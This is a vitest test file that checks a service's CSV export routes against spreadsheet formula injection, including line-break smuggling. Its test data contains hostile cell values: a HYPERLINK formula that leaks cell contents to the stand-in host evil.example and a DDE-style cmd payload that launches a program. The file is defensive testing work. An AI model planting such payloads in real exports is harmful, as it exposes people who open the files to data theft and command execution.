import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { safeCell, toCsv } from '../../src/api/http.js';
import { startService, type Service } from '../../src/service.js';
import { apiExtension } from '../../src/api/index.js';
import { logsRoutes } from '../../src/api/logs-routes.js';
import { createLogger } from '../../src/log.js';
import { createRegistry } from '../../src/metrics.js';
import { testConfig } from '../support/store.js';
import { usageDayRow } from '../support/rows.js';

// Values a platform tenant controls, which a spreadsheet would evaluate if written as they are.
const HOSTILE_APP = '=HYPERLINK("http://evil.example/?d="&A2,"click")';
const HOSTILE_MESSAGE = '+1+1';

describe('safeCell (CONTRIBUTING.md rule 18), against literals derived by hand', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['-12.5', '-12.5'], // a negative amount stays a number
    ['-3', '-3'],
    ['', ''],
  ])('%j -> %j', (given, expected) => {
    expect(safeCell(given)).toBe(expected);
  });

  it('leaves numbers and booleans alone and writes null as empty', () => {
    expect(safeCell(-4)).toBe(-4);
    expect(safeCell(true)).toBe(true);
    expect(safeCell(null)).toBe('');
  });

  it('toCsv: the hostile cell parses back with its quote prefix; numeric cells parse as numbers', () => {
    const csv = toCsv({ columns: ['app', 'difference'], rows: [{ app: HOSTILE_APP, difference: '-0.25' }] });
    const [row] = parseCsv(csv, { columns: true, cast: true }) as Array<Record<string, unknown>>;
    expect(row).toEqual({ app: `'${HOSTILE_APP}`, difference: -0.25 });
  });
});

describe('every CSV route is safe to open', () => {
  let service: Service;
  // Logs are kept LOG_RETENTION_DAYS (a TTL): the line is from an hour ago.
  // wall-clock: log rows must sit inside the logs TTL, which ClickHouse applies on the machine's clock
  const logTime = new Date(Math.floor(Date.now() / 60_000) * 60_000 - 3_600_000);
  const chTime = (d: Date) => d.toISOString().replace('T', ' ').replace('Z', '');
  const TOKEN = 'csv-test-token-0123456789';
  const api = (path: string) => fetch(`${service.url}/api/v1${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });

  beforeAll(async () => {
    const config = testConfig({ PORT: '0', API_TOKENS: TOKEN });
    service = await startService(config, {
      logger: createLogger('silent'),
      registry: createRegistry({ defaultMetrics: false }),
      extensions: [apiExtension([logsRoutes])],
    });
    const usage = (day: string, cost: string) =>
      usageDayRow(day, { app: HOSTILE_APP, machine_type: 'GPU-H100', quantity: '100', unit_price: '0.000575', cost_subtotal: cost, cost_total: cost });
    await service.store.client.insert({
      table: 'usage_buckets',
      values: [usage('2026-10-01', '0.0575'), usage('2026-10-02', '0.0575')],
      format: 'JSONEachRow',
    });
    await service.store.client.insert({
      table: 'logs',
      values: [
        {
          timestamp: chTime(logTime),
          level: 'INFO',
          app: HOSTILE_APP,
          app_id: 'app_1',
          request_id: 'req_1',
          job_id: '',
          endpoint: 'acme/evil',
          node: '',
          worker: '',
          source: 'stdout',
          isolate_source: '',
          message: HOSTILE_MESSAGE,
          attributes: {},
          received_at: chTime(logTime),
          batch_id: '00000000-0000-4000-8000-000000000001',
          line: 1,
        },
      ],
      format: 'JSONEachRow',
    });
  });

  afterAll(async () => {
    await service?.close();
  });

  async function csvRecords(path: string): Promise<Array<Record<string, string>>> {
    const res = await api(path);
    expect(res.status, await res.clone().text()).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const records = parseCsv(await res.text(), { columns: true }) as Array<Record<string, string>>;
    expect(records.length).toBeGreaterThan(0);
    return records;
  }

  it('finance: the app name is text a spreadsheet does not evaluate; the totals stay numbers', async () => {
    const records = await csvRecords('/reports/finance?month=2026-10&timezone=UTC&format=csv');
    const appRows = records.filter((r) => r.app?.includes('HYPERLINK'));
    expect(appRows.length).toBeGreaterThan(0);
    for (const r of appRows) expect(r.app).toBe(`'${HOSTILE_APP}`);
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]/);
    const total = records.find((r) => r.app === `'${HOSTILE_APP}`)!;
    expect(Object.values(total)).toContain('0.115');
  });

  it('cost: grouped by app', async () => {
    const records = await csvRecords('/cost?from=2026-10-01&to=2026-10-03&timezone=UTC&group_by=app&format=csv');
    expect(records.map((r) => r.app)).toEqual([`'${HOSTILE_APP}`]);
    expect(Object.values(records[0])).toContain('0.115');
  });

  it('logs: the message and the app', async () => {
    const records = await csvRecords(
      `/logs?from=${new Date(logTime.getTime() - 60_000).toISOString()}&to=${new Date(logTime.getTime() + 60_000).toISOString()}&format=csv`,
    );
    expect(records).toHaveLength(1);
    expect(records[0].message).toBe(`'${HOSTILE_MESSAGE}`);
    expect(records[0].app).toBe(`'${HOSTILE_APP}`);
  });
});

// Review finding 29.3: a line break inside a cell smuggled a formula past the first-character check, and a bare LF
// was left unquoted (a new row to every reader). Every route that answers CSV is asked with such values stored.
describe('29.3: no line of any cell of any CSV route starts a formula', () => {
  let service: Service;
  const LINE_BREAK_VALUES = ['\n=1+1', '\r@SUM(A1)', 'x\n+1'];
  // The neutralised forms, derived by hand: a leading ' on the cell and on every line that starts like a formula.
  const NEUTRALISED = new Map([
    ['\n=1+1', "'\n'=1+1"],
    ['\r@SUM(A1)', "'\r'@SUM(A1)"],
    ['x\n+1', "'x\n'+1"],
  ]);
  const TRIGGER = /^[=+\-@\t\r]/;
  const NUMBER = /^-?\d+(\.\d+)?$/;
  // wall-clock: log rows must sit inside the logs TTL, which ClickHouse applies on the machine's clock
  const logTime = new Date(Math.floor(Date.now() / 60_000) * 60_000 - 3_600_000);
  const chTime = (d: Date) => d.toISOString().replace('T', ' ').replace('Z', '');
  const TOKEN = 'csv-test-token-0123456789';
  const api = (path: string) => fetch(`${service.url}/api/v1${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });
  const logRange = () => `from=${new Date(logTime.getTime() - 60_000).toISOString()}&to=${new Date(logTime.getTime() + 60_000).toISOString()}`;

  beforeAll(async () => {
    const { analyticsRoutes } = await import('../../src/api/analytics-routes.js');
    const { requestCostRoutes } = await import('../../src/api/request-cost-routes.js');
    // A budget per hostile app name: GET /budgets names them in its CSV.
    const APP_BUDGETS = JSON.stringify(Object.fromEntries(LINE_BREAK_VALUES.map((app) => [app, 100])));
    service = await startService(testConfig({ PORT: '0', API_TOKENS: TOKEN, APP_BUDGETS }), {
      logger: createLogger('silent'),
      registry: createRegistry({ defaultMetrics: false }),
      extensions: [apiExtension([requestCostRoutes, analyticsRoutes, logsRoutes])],
    });
    const insert = (table: string, values: unknown[]) => service.store.client.insert({ table, values, format: 'JSONEachRow' });
    await insert(
      'usage_buckets',
      LINE_BREAK_VALUES.map((app) => usageDayRow('2026-10-01', { app, machine_type: 'GPU-H100', quantity: '100', unit_price: '0.000575', cost_subtotal: '0.0575', cost_total: '0.0575' })),
    );
    await insert(
      'logs',
      LINE_BREAK_VALUES.map((v, i) => ({
        timestamp: chTime(logTime), level: 'INFO', app: v, app_id: 'app_1', request_id: `req_${i}`, job_id: '', endpoint: v, node: '', worker: '',
        source: 'stdout', isolate_source: '', message: v, attributes: {}, received_at: chTime(logTime), batch_id: '00000000-0000-4000-8000-000000000002', line: i,
      })),
    );
    await insert(
      'analytics_buckets',
      LINE_BREAK_VALUES.map((endpoint_id) => ({
        kind: 'serverless', timezone: 'UTC', timeframe: 'hour', bucket: '2026-10-01 00:00:00.000', bucket_offset_minutes: 0, endpoint_id, endpoint_scope: 'app',
        request_count: 7, success_count: 5, user_error_count: 1, error_count: 1, p50_duration: 1.5, raw: '{}', version: 1, collected_at: '2026-10-02 00:00:00.000',
      })),
    );
    await insert(
      'runner_history',
      LINE_BREAK_VALUES.map((endpoint_id) => ({
        owner: 'o', name: endpoint_id, endpoint_id, timezone: 'UTC', timeframe: 'hour', aggregation: 'max', timestamp: '2026-10-01 00:00:00.000', timestamp_offset_minutes: 0,
        running: 3, idle: 1, pending: 0, draining: 0, raw: '{}', version: 1, collected_at: '2026-10-02 00:00:00.000',
      })),
    );
    await insert(
      'requests',
      LINE_BREAK_VALUES.map((endpoint_id, i) => ({
        request_id: `r${i}`, endpoint_id, ended_at: '2026-10-01 01:00:00.000', status_code: 200, duration: 2, billable_units: '2', raw: '', version: 1, collected_at: '2026-10-02 00:00:00.000',
      })),
    );
  });

  afterAll(async () => {
    await service?.close();
  });

  // Each CSV route, the column holding the stored text and the columns that must stay numbers.
  const ROUTES: Record<string, { query: () => string; text: string; numbers: string[] }> = {
    '/cost': { query: () => 'from=2026-10-01&to=2026-10-02&group_by=app', text: 'app', numbers: ['machine_seconds', 'cost'] },
    '/cost/changes': { query: () => 'from=2026-10-01&to=2026-10-02&group_by=app', text: 'app', numbers: ['current_cost', 'difference'] },
    '/budgets': { query: () => 'month=2026-10&today=2026-10-02', text: 'name', numbers: ['amount', 'spent'] },
    '/cost/requests': { query: () => 'from=2026-10-01&to=2026-10-02', text: 'endpoint_id', numbers: ['request_count', 'billable_units'] },
    '/reports/finance': { query: () => 'month=2026-10', text: 'app', numbers: [] },
    '/reports/focus': { query: () => 'month=2026-10', text: 'ResourceName', numbers: ['BilledCost'] },
    '/logs': { query: logRange, text: 'message', numbers: [] },
    '/latency': { query: () => 'from=2026-10-01&to=2026-10-02', text: 'endpoint_id', numbers: ['request_count'] },
    '/errors': { query: () => 'from=2026-10-01&to=2026-10-02', text: 'endpoint_id', numbers: ['request_count', 'error_count'] },
    '/runners': { query: () => 'from=2026-10-01&to=2026-10-02', text: 'endpoint_id', numbers: ['running'] },
  };

  it('the routes tested are every route the OpenAPI document lists with a text/csv answer', async () => {
    const doc = (await (await api('/openapi.json')).json()) as { paths: Record<string, { get: { responses: { '200': { content: Record<string, unknown> } } } }> };
    const csvPaths = Object.entries(doc.paths)
      .filter(([, p]) => 'text/csv' in p.get.responses['200'].content)
      .map(([path]) => path.replace('/api/v1', ''));
    expect(csvPaths.sort()).toEqual(Object.keys(ROUTES).sort());
  });

  it.each(Object.keys(ROUTES))('%s', async (path) => {
    const route = ROUTES[path];
    const res = await api(`${path}?${route.query()}&format=csv`);
    const body = await res.text();
    expect(res.status, body).toBe(200);
    const records = parseCsv(body, { columns: true }) as Array<Record<string, string>>;
    for (const r of records) {
      for (const [column, cell] of Object.entries(r)) {
        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(TRIGGER);
        for (const line of cell.split(/\r\n|\r|\n/)) expect(line, `${column}: ${JSON.stringify(cell)}`).not.toMatch(TRIGGER);
      }
    }
    // One row per stored value (finance adds its total row): a line break never starts a row of its own.
    const hostile = records.filter((r) => [...NEUTRALISED.values()].includes(r[route.text]));
    expect(hostile.map((r) => r[route.text]).sort()).toEqual([...NEUTRALISED.values()].sort());
    for (const r of hostile) for (const c of route.numbers) expect(r[c], `${c} of ${JSON.stringify(r[route.text])}`).toMatch(NUMBER);
  });

  it('hand-worked figures survive: each hostile app costs 0.0575 and ran 100 machine-seconds', async () => {
    const records = parseCsv(await (await api('/cost?from=2026-10-01&to=2026-10-02&group_by=app&format=csv')).text(), { columns: true, cast: true }) as Array<Record<string, unknown>>;
    // (The store is this file's: the first block's app is there too.)
    const hostile = records.filter((r) => [...NEUTRALISED.values()].includes(r.app as string));
    expect(hostile.map((r) => [r.app, r.machine_seconds, r.cost]).sort()).toEqual([...NEUTRALISED.values()].sort().map((app) => [app, 100, 0.0575]));
  });

  it('toCsv (the CLI reports write through it too): a line break is quoted and every line neutralised', () => {
    const csv = toCsv({ columns: ['app', 'cost'], rows: LINE_BREAK_VALUES.map((app) => ({ app, cost: '-0.25' })) });
    expect(parseCsv(csv, { columns: true, cast: true })).toEqual(LINE_BREAK_VALUES.map((app) => ({ app: NEUTRALISED.get(app), cost: -0.25 })));
    // Read line by line, as a reader that ignores quotes would: no line starts a formula.
    for (const line of csv.split(/\r\n|\r|\n/)) expect(line.replace(/^"/, '')).not.toMatch(TRIGGER);
  });
});
